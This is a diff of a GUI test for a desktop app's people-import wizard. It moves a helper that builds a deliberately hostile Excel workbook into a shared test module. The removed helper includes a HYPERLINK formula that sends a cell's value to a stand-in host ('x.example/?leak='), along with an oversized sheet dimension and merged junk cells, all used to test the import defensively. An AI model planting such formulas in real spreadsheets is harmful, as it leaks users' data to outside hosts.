@@ -18,6 +18,7 @@ from mornings_desktop.ui.people import import_wizard
 from mornings_desktop.ui.people.import_choices import EncodingDialog, SheetDialog
 from mornings_desktop.ui.people.screen import PeopleScreen
 from tests.gui.keys import press_key
+from tests.unit.imports import hostile
 
 SHOTS = Path("/tmp/mornings-shots")
 
@@ -120,26 +121,6 @@ def test_a_guessed_encoding_is_shown_and_corrected(
     assert "Aurélie Deschênes" in names
 
 
-def hostile_first_xlsx(path: Path) -> Path:
-    """A draft sheet first that no reader should build (a cell at the last cell of a sheet, so a
-    dimension claiming the whole sheet; formulas; merged junk), then notes, then the list."""
-    wb = Workbook()
-    draft = wb.active
-    draft.title = "Brouillon"
-    draft["A1"] = "=SUM(B2:B9)"
-    draft["B2"] = '=HYPERLINK("http://x.example/?leak="&C2,"Voir")'
-    draft.merge_cells("A3:F40")
-    draft["XFD1048576"] = "x"
-    notes = wb.create_sheet("Notes")
-    notes.append(["À rappeler la veille"])
-    people = wb.create_sheet("Inscrits")
-    people.append(["Nom", "Prénom", "E-mail"])
-    people.append(["Chraïbi", "Leïla", "leila@medias24.ma"])
-    people.append(["Ouazzani", "Nizar", "nizar@ouazzani-conseil.ma"])
-    wb.save(path)
-    return path
-
-
 def test_a_hostile_first_sheet_leaves_the_others_to_choose(  # type: ignore[no-untyped-def]
     qtbot, state, demo_morning, tmp_path, monkeypatch
 ) -> None:
@@ -162,7 +143,7 @@ def test_a_hostile_first_sheet_leaves_the_others_to_choose(  # type: ignore[no-u
         press_key(dialog.sheets, Qt.Key.Key_Return)  # the list found, as proposed
 
     answer(SheetDialog, pick, seen)
-    screen.import_file(hostile_first_xlsx(tmp_path / "Matinale.xlsx"))
+    screen.import_file(hostile.hostile_first_xlsx(tmp_path / "Matinale.xlsx"))
     assert seen, "the sheet was not asked"
     assert offered == [["Notes", "Inscrits"]]
     assert said[0].endswith(".") and ". " not in said[0] and "“Brouillon”" in said[0]  # one
